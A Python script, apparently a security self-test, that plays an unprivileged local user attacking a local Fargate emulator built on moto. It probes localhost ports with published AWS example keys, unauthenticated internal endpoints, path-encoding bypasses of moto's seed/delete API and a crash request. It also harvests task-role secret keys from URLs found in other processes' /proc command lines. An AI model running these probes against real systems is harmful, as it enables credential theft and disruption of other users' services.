"""Another user of the machine on which a local Fargate runs. It knows what such a user can read: /proc, and AWS's documentation.

It looks for everything that listens in its network namespace, tries each attack there, and prints a line for each that succeeds.
"""
import datetime
import glob
import hashlib
import hmac
import http.client
import json
import re
import socket
import urllib.parse

# AWS's published example keys.
PUBLISHED = (
    ("AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    ("AKIAI44QH8DHBEXAMPLE", "je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY"),
)


def listening():
    with open("/proc/net/tcp", encoding="ascii") as file:
        rows = [line.split() for line in file][1:]
    return sorted({int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"})


def ask(port, method, path, body=None, headers=None):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        connection.request(method, path, body, headers or {})
        answer = connection.getresponse()
        return answer.status, answer.read()
    except (OSError, http.client.HTTPException):
        return 0, b""
    finally:
        connection.close()


def signed(port, key, secret):
    """Asks for the clusters, signed by version 4 of AWS's signatures."""
    now = datetime.datetime.now(datetime.timezone.utc).strftime("%Y%m%dT%H%M%SZ")
    scope = f"{now[:8]}/us-east-1/ecs/aws4_request"
    target, names = "AmazonEC2ContainerServiceV20141113.ListClusters", "host;x-amz-date;x-amz-target"
    lines = ["POST", "/", "", f"host:127.0.0.1:{port}", f"x-amz-date:{now}", f"x-amz-target:{target}", "", names]
    canonical = "\n".join([*lines, hashlib.sha256(b"{}").hexdigest()])
    text = "\n".join(["AWS4-HMAC-SHA256", now, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    signing = f"AWS4{secret}".encode()
    for part in scope.split("/"):
        signing = hmac.digest(signing, part.encode(), "sha256")
    signature = hmac.digest(signing, text.encode(), "sha256").hex()
    words = f"AWS4-HMAC-SHA256 Credential={key}/{scope}, SignedHeaders={names}, Signature={signature}"
    headers = {"X-Amz-Date": now, "X-Amz-Target": target, "Authorization": words}
    return ask(port, "POST", "/", b"{}", {**headers, "Content-Type": "application/x-amz-json-1.1"})


def arguments():
    """The arguments of all processes, which every user may read."""
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                yield file.read()
        except OSError:
            pass  # It has ended.


def connects(address):
    with socket.socket(socket.AF_UNIX) as one:
        try:
            one.connect(address)
            return True
        except OSError:
            return False


def main():
    words = b"\0".join(arguments())
    for port in listening():
        for key, secret in PUBLISHED:
            if signed(port, key, secret)[0] == 200:
                print(f"calls ECS with the published key {key}")
        if ask(port, "POST", "/_local/faults", b"{}")[0] == 200:
            print("orders faults")
        if ask(port, "GET", "/_local/sessions")[0] == 200:
            print("reads the sessions")
        if ask(port, "GET", "/moto-api/data.json")[0] == 200:
            print("reads all that moto keeps")
        # An unsigned call of S3 is allowed by a bucket's policy alone.
        for path in "//moto-api/seed?a=1&delete", "/%6doto-api/seed?a=1&delete", "/moto-api/seed?a=1&delete":
            if ask(port, "POST", path)[0] == 200:
                print(f"calls moto's own API by {path}")
        ask(port, "GET", "//")
        if ask(port, "GET", "/")[0] == 0:
            print("ends the local Fargate")
        urls = set(re.findall(rb"http://127\.0\.0\.1:%d/v2/credentials/[\w-]+" % port, words))
        for url in urls:
            status, body = ask(port, "GET", urllib.parse.urlsplit(url.decode()).path)
            if status == 200 and "SecretAccessKey" in json.loads(body):
                print("takes the keys of a task's role")
        if ask(port, "GET", "/v4/nothing", headers={"Host": f"evil.example:{port}"})[0] == 404:
            print("is answered under a name of its own")
    with open("/proc/net/unix", encoding="utf-8", errors="replace") as file:
        names = {line.split()[7] for line in file if "fargate-local" in line}
    if any(connects(f"\0{name[1:]}" if name.startswith("@") else name) for name in names):
        print("connects to moto's socket")
    print(f"tried {len(listening())} port(s) and {len(names)} socket(s)")


main()
